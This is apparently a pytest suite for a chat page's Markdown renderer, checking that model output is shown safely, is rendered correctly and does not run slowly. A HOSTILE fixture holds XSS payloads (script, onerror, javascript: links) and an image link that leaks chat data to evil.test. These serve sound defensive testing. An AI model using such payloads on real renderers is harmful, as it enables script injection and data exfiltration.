"""What a model writes is shown as text: modest Markdown, no markup, no foreign address."""

from __future__ import annotations

import json

import pytest
from browser import Browser
from scripted_page_server import ScriptedApi

HOSTILE = r"""<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">

[click](javascript:window.hacked=3) [data](data:text/html,x) ![leak](http://evil.test/?q=chat)

> <b onclick=x>quoted</b>

```html
<iframe src="http://evil.test"></iframe>
```

| <i>a</i> | b |
|---|---|
| <svg onload=x> | `<u>` |
"""

RICH = """# Title

A *word*, **two `words`** and `code`, see https://example.org/a. Or [here](https://example.org/b).

1. one
2. two
   - inner
3. three

| a | b |
|:--|--:|
| 1 | 2 |

```python
def f(x):
    return "**not bold**"
```

> said
"""


def render(browser: Browser, text: str, *, pieces: int = 1) -> None:
    """Shows ``text`` in the page's own view, growing in ``pieces`` steps."""
    browser.evaluate(
        "import('./page/markdown.js').then(({MarkdownView}) => {"
        f"const text = {json.dumps(text)}; const view = new MarkdownView();"
        "document.querySelector('#turns').replaceChildren(view.node);"
        "document.querySelector('#welcome').hidden = true;"
        f"for (let i = 1; i <= {pieces}; i++)"
        f"view.update(text.slice(0, Math.ceil(text.length * i / {pieces}))); }})"
    )


def html(browser: Browser) -> str:
    found = browser.evaluate("document.querySelector('.prose').innerHTML")
    assert isinstance(found, str)
    return found


def test_markup_stays_text(browser: Browser, api: ScriptedApi):
    browser.open(api.url)
    render(browser, HOSTILE)
    made = "document.querySelectorAll('.prose :is(script, img, iframe, svg, b, i, u, a)').length"
    assert browser.evaluate(made) == 0
    shown = browser.text(".prose")
    for text in ("<script>", "<img src=x", "[click](javascript:", "![leak](http", "<iframe"):
        assert text in shown
    assert browser.evaluate("window.hacked ?? null") is None
    assert all(url.startswith((api.url, "about:")) for url in browser.requested)


def test_what_is_understood(browser: Browser, api: ScriptedApi):
    browser.open(api.url)
    render(browser, RICH)
    page = html(browser)
    for part in (
        "<h3>Title</h3>",
        "<em>word</em>",
        "<strong>two <code>words</code></strong>",
        '<a href="https://example.org/a" target="_blank" rel="noopener noreferrer">'
        "https://example.org/a</a>. Or ",
        '<a href="https://example.org/b" target="_blank" rel="noopener noreferrer">here</a>.',
        "<li>two<ul><li>inner</li></ul></li><li>three</li>",
        "<th>a</th>",
        "<td>2</td>",
        "<blockquote><p>said</p></blockquote>",
    ):
        assert part in page, (part, page)
    assert browser.text(".prose pre") == 'def f(x):\n    return "**not bold**"'


@pytest.mark.parametrize("text", [RICH, HOSTILE])
def test_growing_gives_what_the_whole_gives(browser: Browser, api: ScriptedApi, text: str):
    browser.open(api.url)
    render(browser, text)
    whole = html(browser)
    render(browser, text, pieces=len(text))
    assert html(browser) == whole


def test_hopeless_text_takes_no_time(browser: Browser, api: ScriptedApi):
    """Each of these made a careless pattern quadratic; the call would run into its limit."""
    browser.open(api.url)
    for text in ("*" * 20_000, "`" * 20_000, "[" * 20_000, "- " * 20_000, "> " * 20_000):
        render(browser, text + " x")
        render(browser, "a|b\n" + text + " x")
    render(browser, "https://a" + "." * 20_000)
    render(browser, "\n".join(" " * i + "- x" for i in range(200)))
